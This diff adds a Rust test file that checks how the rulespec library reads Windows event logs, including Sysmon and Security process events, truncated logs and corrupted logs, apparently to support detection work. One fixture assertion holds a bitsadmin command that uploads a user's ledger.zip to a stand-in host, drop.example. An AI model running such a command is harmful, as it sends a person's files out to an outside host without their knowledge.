@@ -1,0 +1,215 @@
+//! Real event logs, whole and broken, and fixtures of our own.
+#![cfg(feature = "telemetry")]
+
+use std::collections::BTreeMap;
+use std::io::Cursor;
+use std::ops::ControlFlow;
+use std::path::{Path, PathBuf};
+use std::sync::Arc;
+
+use rulespec::telemetry::{Event, Item, Names, Options, Source, evtx, read, xml};
+
+fn data() -> Option<PathBuf> {
+    let root = std::env::var_os("RULESPEC_DATA")
+        .map_or_else(|| PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../shared/data")), PathBuf::from);
+    let events = root.join("events");
+    if events.is_dir() {
+        return Some(events);
+    }
+    println!("skipped: no real telemetry at {}", events.display());
+    None
+}
+
+fn logs() -> Vec<(String, Vec<u8>)> {
+    let Some(folder) = data() else { return Vec::new() };
+    let mut logs: Vec<_> = std::fs::read_dir(folder)
+        .unwrap()
+        .map(|entry| entry.unwrap().path())
+        .filter(|path| path.extension().is_some_and(|extension| extension == "evtx"))
+        .map(|path| (path.file_name().unwrap().to_string_lossy().into_owned(), std::fs::read(path).unwrap()))
+        .collect();
+    logs.sort();
+    logs
+}
+
+fn all(_: Names<'_>) -> bool {
+    true
+}
+
+fn items(
+    keep: &dyn Fn(Names<'_>) -> bool,
+    run: impl FnOnce(&Options<'_>, &mut dyn FnMut(Item) -> ControlFlow<()>),
+) -> Vec<Item> {
+    let options = Options { format: None, keep, progress: Arc::default() };
+    let mut items = Vec::new();
+    run(&options, &mut |item| {
+        items.push(item);
+        ControlFlow::Continue(())
+    });
+    items
+}
+
+fn of_log(log: &[u8], keep: &dyn Fn(Names<'_>) -> bool) -> Vec<Item> {
+    items(keep, |options, sink| {
+        let _ = evtx::read(Cursor::new(log), &"log".into(), options, sink);
+    })
+}
+
+fn of_file(path: &Path) -> Vec<Item> {
+    items(&all, |options, sink| {
+        let _ = read(path, options, sink);
+    })
+}
+
+fn events(items: Vec<Item>) -> Vec<Event> {
+    let event = |item| if let Item::Event(event) = item { Some(*event) } else { None };
+    items.into_iter().filter_map(event).collect()
+}
+
+fn cell(event: &Event, name: &str) -> String {
+    let at = event.columns.iter().position(|column| column.name == name).unwrap();
+    match &event.row[at].to_json() {
+        serde_json::Value::String(text) => text.clone(),
+        other => other.to_string(),
+    }
+}
+
+fn count(items: &[Item], source: Source) -> u64 {
+    items.iter().filter(|item| matches!(item, Item::Event(event) if event.source == source)).count() as u64
+}
+
+#[test]
+fn every_real_log_holds_the_events_its_manifest_counts() {
+    let Some(folder) = data() else { return };
+    let manifest = std::fs::read_to_string(folder.join("MANIFEST.json")).unwrap();
+    let manifest: serde_json::Value = serde_json::from_str(&manifest).unwrap();
+    for entry in manifest.as_array().unwrap() {
+        let file = entry["file"].as_str().unwrap();
+        let items = of_file(&folder.join(file));
+        let faults: Vec<_> = items.iter().filter(|item| matches!(item, Item::Fault(_))).collect();
+        assert!(faults.is_empty(), "{file}: {faults:?}");
+        let counts = (count(&items, Source::Sysmon), count(&items, Source::Security));
+        let expected = (entry["sysmon1"].as_u64().unwrap(), entry["sec4688"].as_u64().unwrap());
+        assert_eq!(counts, expected, "{file}");
+    }
+}
+
+#[test]
+fn a_log_says_the_same_as_its_xml() {
+    for (name, log) in logs() {
+        let mut text = String::new();
+        for record in ::evtx::EvtxParser::from_buffer(log.clone()).unwrap().records() {
+            text.push_str(&record.unwrap().data);
+        }
+        let from_xml = events(items(&all, |options, sink| {
+            let _ = xml::read(text.as_bytes(), &"log".into(), options, sink);
+        }));
+        let from_log = events(of_log(&log, &all));
+        let rows = |events: &[Event]| events.iter().map(|event| event.row.clone()).collect::<Vec<_>>();
+        assert_eq!(rows(&from_xml), rows(&from_log), "{name}");
+        assert!(!from_log.is_empty(), "{name}");
+    }
+}
+
+#[test]
+fn what_is_kept_does_not_depend_on_how_it_is_decided() {
+    let keep = |names: Names<'_>| names.command_line.len().is_multiple_of(2) && names.file_name.contains('e');
+    for (name, log) in logs() {
+        let from_log = events(of_log(&log, &keep)).len();
+        let after = |event: &&Event| {
+            let names = Names {
+                file_name: &cell(event, "FileName"),
+                original_file_name: None,
+                command_line: &cell(event, "ProcessCommandLine"),
+            };
+            keep(names)
+        };
+        assert_eq!(from_log, events(of_log(&log, &all)).iter().filter(after).count(), "{name}");
+    }
+}
+
+/// The records by what they hold, to tell which of them are still there.
+fn told(items: Vec<Item>) -> BTreeMap<String, usize> {
+    let mut told = BTreeMap::new();
+    for event in events(items) {
+        *told.entry(format!("{:?}", event.row)).or_default() += 1;
+    }
+    told
+}
+
+#[test]
+fn a_cut_off_log_keeps_every_record_before_the_cut() {
+    for (name, log) in logs() {
+        let whole = told(of_log(&log, &all));
+        let step = log.len() / 41 + 1;
+        let mut before = 0;
+        for end in (0..log.len()).step_by(step) {
+            let items = of_log(&log[..end], &all);
+            assert!(
+                items.iter().any(|item| matches!(item, Item::Fault(_))) || (end - 4096) % 65536 == 0,
+                "{name}: {end}"
+            );
+            let kept = told(items);
+            assert!(kept.keys().all(|event| whole.contains_key(event)), "{name}: {end}");
+            let count = kept.values().sum();
+            assert!(count >= before, "{name}: {end}: {count} after {before}");
+            before = count;
+        }
+    }
+}
+
+#[test]
+fn tel_39_a_log_with_wrong_bytes_neither_panics_nor_loses_the_other_chunks() {
+    let mut random = 0x9e37_79b9_7f4a_7c15_u64;
+    let mut next = |below: usize| {
+        random ^= random << 13;
+        random ^= random >> 7;
+        random ^= random << 17;
+        (random % below as u64) as usize
+    };
+    for (name, log) in logs() {
+        let whole = events(of_log(&log, &all)).len();
+        for _ in 0..(10_000_000 / log.len()).min(300) {
+            let mut broken = log.clone();
+            let chunk = 4096 + 65536 * next((log.len() - 4096) / 65536);
+            for _ in 0..=next(8) {
+                broken[chunk + next(65536)] = next(256) as u8;
+            }
+            let kept = events(of_log(&broken, &all)).len();
+            let in_chunk = 65536 / 200;
+            assert!(kept + in_chunk >= whole, "{name}: {kept} of {whole}");
+        }
+    }
+}
+
+fn here(path: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join(path)
+}
+
+#[test]
+fn our_own_events_are_read() {
+    let items = of_file(&here("tests/fixtures/windows.xml"));
+    assert_eq!((count(&items, Source::Sysmon), count(&items, Source::Security), items.len()), (2, 2, 5));
+    let events = events(items);
+    let row: Vec<String> = ["DeviceName", "FileName", "ProcessId", "AccountName", "TimeGenerated"]
+        .map(|name| cell(&events[0], name))
+        .into();
+    let expected = ["ws07.corp.example", "bitsadmin.exe", "6120", "e.larsen", "2026-01-02T09:14:03.5120000Z"];
+    assert_eq!(row, expected);
+    assert_eq!(
+        cell(&events[0], "ProcessCommandLine"),
+        r#"bitsadmin  /transfer "Q3 report" /priority foreground http://files.example/q3/report.xlsx C:\Users\Public\report.xlsx"#
+    );
+    assert_eq!(
+        cell(&events[2], "ProcessCommandLine"),
+        r#"bitsadmin.exe /transfer out /upload https://drop.example/in/ledger.zip "C:\Users\e.larsen\My Files\ledger.zip""#
+    );
+    assert_eq!(cell(&events[2], "ProcessId"), "7212");
+    assert_eq!(cell(&events[2], "InitiatingProcessId"), "5004");
+}
+
+#[test]
+fn the_example_is_read() {
+    let items = of_file(&here("examples/events/sysmon.xml"));
+    assert_eq!((count(&items, Source::Sysmon), items.len()), (3, 4));
+}
